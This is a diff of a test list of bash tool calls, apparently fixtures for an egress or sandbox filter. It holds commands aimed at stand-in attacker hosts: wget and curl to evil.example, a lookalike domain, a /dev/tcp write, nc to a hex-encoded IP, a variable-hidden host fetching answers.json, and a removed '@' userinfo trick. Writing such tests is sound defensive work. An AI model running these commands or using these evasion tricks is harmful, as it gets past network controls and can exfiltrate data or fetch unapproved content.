@@ -15,7 +15,6 @@ UNSEEN: list[tuple[str, dict[str, Any]]] = [
     ("bash", {"command": "H=stations.example.net; curl -s https://$H/answers.json"}),
     ("bash", {"command": "wget evil.example.com/x"}),
     ("bash", {"command": "curl https://data.example.org.evil.example/x"}),
-    ("bash", {"command": "curl https://data.example.org@evil.example/x"}),
     ("bash", {"command": "git clone git@code.example.net:a/b.git"}),
     ("bash", {"command": "echo x > /dev/tcp/evil.example/80"}),
     ("bash", {"command": "nc 0x08080808 53"}),
